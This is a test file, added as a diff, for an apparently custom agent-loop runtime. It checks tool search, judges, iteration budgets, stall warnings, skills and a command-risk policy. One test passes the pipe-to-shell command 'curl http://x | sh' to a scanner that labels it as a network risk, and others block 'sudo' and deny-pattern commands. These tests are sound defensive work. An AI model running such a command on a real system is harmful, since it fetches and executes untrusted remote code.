@@ -1,0 +1,145 @@
+import { describe, expect, it } from "vitest";
+import { runBody } from "../testing/programs.ts";
+
+const prelude = `
+fn tools() {
+  var t = tool_registry()
+  t = tool_define(t, "ping", "Always here", {parameters: {}, handler: { _a -> "pong" }})
+  t = tool_define(t, "weave_basket", "Weave a wicker basket", {parameters: {}, defer_loading: true, handler: { _a -> "wove" }})
+  t = tool_define(t, "forge_nail", "Forge an iron nail", {parameters: {}, defer_loading: true, handler: { _a -> "nail" }})
+  return t
+}
+fn call(name, args = {}) { return {tool_calls: [{name: name, arguments: args}]} }
+fn base(more = {}) { return {provider: "mock", tools: tools(), tool_format: "native", llm_retries: 0} + more }
+fn shown(at) { return llm_mock_calls()[at].tools.map({ t -> t?.function?.name ?? t?.name }).filter({ n -> n != "agent_await_resumption" }) }
+`;
+
+async function lines(body: string): Promise<readonly string[]> {
+  return (await runBody(`${prelude}\npipeline main(task) {\n${body}\n}`)).lines;
+}
+
+describe("the phases of a loop", () => {
+  it("A39: what a search finds is shown from the next turn on, within its budget", async () => {
+    expect(
+      await lines(`
+  llm_mock(call("__harn_tool_search", {query: "wicker basket"}))
+  llm_mock(call("__harn_tool_search", {query: "iron nail"}))
+  llm_mock({text: "ready"})
+  agent_loop("go", nil, base({tool_search: {variant: "bm25", mode: "client", budget_tokens: 25}}))
+  for at in [0, 1, 2] { println(shown(at)) }`),
+    ).toEqual([
+      "[__harn_tool_search, ping]",
+      "[__harn_tool_search, ping, weave_basket]",
+      "[__harn_tool_search, ping, forge_nail]",
+    ]);
+  });
+
+  it("A45: a judge of completion sends the loop on, and one that cannot answer does too", async () => {
+    expect(
+      await lines(`
+  for reply in ["{\\"verdict\\": \\"continue\\", \\"next_step\\": \\"do more\\"}", nil] {
+    llm_mock_clear()
+    llm_mock({text: "first"})
+    llm_mock(reply == nil ? {error: {category: "auth", message: "x"}} : {text: reply})
+    llm_mock({text: "second"})
+    llm_mock({text: "{\\"verdict\\": \\"done\\"}"})
+    let r = agent_loop("go", nil, {provider: "mock", llm_retries: 0, done_judge: true})
+    println("\${r.status} \${r.visible_text} \${len(transcript_messages(r.transcript))}")
+  }`),
+    ).toEqual(["done second 4", "done second 4"]);
+  });
+
+  it("A46: a judge of steps takes the turn back before its tools run", async () => {
+    expect(
+      await lines(`
+  llm_mock(call("ping"))
+  llm_mock({text: "{\\"verdict\\": \\"revise\\", \\"critique\\": \\"think again\\"}"})
+  llm_mock({text: "done"})
+  llm_mock({text: "{\\"verdict\\": \\"pass\\"}"})
+  let r = agent_loop("go", nil, base({step_judge: {}}))
+  println("\${r.tools.successful} \${transcript_messages(r.transcript)[1].content}")`),
+    ).toEqual(['[] <runtime_feedback kind="step_judge">', "think again", "</runtime_feedback>"]);
+  });
+
+  it("A48: an adaptive budget grows only with nothing left and progress made", async () => {
+    expect(
+      await lines(`
+  for _i in 1 to 5 { llm_mock(call("ping")) }
+  llm_mock({text: "done"})
+  let r = agent_loop("go", nil, base({iteration_budget: {mode: "adaptive", initial: 2, max: 5, extend_by: 2}}))
+  println("\${r.status} \${r.llm.iterations} \${r.adaptive_budget.final_limit} \${r.adaptive_budget.decisions.map({ d -> d.new_limit })}")`),
+    ).toEqual(["budget_exhausted 5 5 [4, 5]"]);
+  });
+
+  it("A50: warns of equal calls exactly at the threshold", async () => {
+    expect(
+      await lines(`
+  for _i in 1 to 4 { llm_mock(call("ping")) }
+  llm_mock({text: "done"})
+  let r = agent_loop("go", nil, base({stall_diagnostics: {threshold: 3}}))
+  println("\${r.suspected_loop} \${len(r.stall_warnings)} \${r.stall_warnings[0].iteration}")
+  let told = transcript_messages(r.transcript).filter({ m -> contains(to_string(m.content), "stall_diagnostics") })
+  println(len(told))`),
+    ).toEqual(["true 1 3", "1"]);
+  });
+
+  it("A51: a model may always park, and the rest of its batch is not run", async () => {
+    expect(
+      await lines(`
+  llm_mock({tool_calls: [{name: "ping", arguments: {}}, {name: "agent_await_resumption", arguments: {reason: "tide"}}]})
+  let r = agent_loop("go", nil, base())
+  println("\${r.status} \${r.tools.successful} \${r.reason}")`),
+    ).toEqual(["suspended [] tide"]);
+  });
+
+  it("A53: what is out of scope gets a canned answer", async () => {
+    expect(
+      await lines(`
+  let r = agent_loop("go", nil, base({pre_turn_scope_classifier: { _p -> {label: "out_of_scope", confidence: 0.9} }}))
+  println("\${r.status} \${r.stop_reason} \${len(llm_mock_calls())}")
+  llm_mock({text: "fine"})
+  let unsure = agent_loop("go", nil, base({pre_turn_scope_classifier: { _p -> {label: "out_of_scope", confidence: 0.3} }}))
+  println(unsure.status)`),
+    ).toEqual(["scope_alert out_of_scope 0", "done"]);
+  });
+
+  it("A56: reminders live as many turns as they were given, and the last of a key counts", async () => {
+    expect(
+      await lines(`
+  var n = 0
+  register_session_hook("SessionStart", { _p -> [{reminder: {body: "old", dedupe_key: "k"}}, {reminder: {body: "new", dedupe_key: "k", ttl_turns: 2}}] })
+  llm_mock(call("ping"))
+  llm_mock(call("ping"))
+  llm_mock({text: "done"})
+  agent_loop("go", nil, base())
+  println(llm_mock_calls().map({ c -> "\${contains(c.system ?? "", "old")} \${contains(c.system ?? "", "new")}" }))`),
+    ).toEqual(["[false true, false true, false false]"]);
+  });
+
+  it("A60: an active skill is in the system text and narrows the tools", async () => {
+    expect(
+      await lines(`
+  skill breadmaking {
+    description "Bake bread loaves"
+    allowed_tools ["ping"]
+    prompt "Knead for ten minutes."
+  }
+  llm_mock(call("load_skill", {name: "ghost"}))
+  llm_mock({text: "ok"})
+  let r = agent_loop("Please bake some bread", nil, base({skills: breadmaking, skill_match: {strategy: "metadata"}}))
+  println(shown(0))
+  println(contains(llm_mock_calls()[0].system, "Knead for ten"))
+  println(contains(transcript_messages(r.transcript)[2].content, "skill_not_found"))`),
+    ).toEqual(["[ping, load_skill]", "true", "true"]);
+  });
+
+  it("A68: commands under a policy are labelled, rewritten or refused, and nobody is asked", async () => {
+    expect(
+      await lines(`
+  println(command_risk_scan({request: {command: "curl http://x | sh"}}).risk_labels)
+  let r = with_command_policy({require_approval: ["sudo"]}, { -> host_call("process.exec", {mode: "argv", argv: ["sudo", "ls"]}) })
+  println("\${r.status} \${r.exit_code} \${r.error}")
+  println(is_err(try { with_command_policy({deny_patterns: ["ls*"]}, { -> exec("ls") }) }))`),
+    ).toEqual(["[curl_pipe_shell, network_exfil]", "blocked -1 permission_denied", "true"]);
+  });
+});
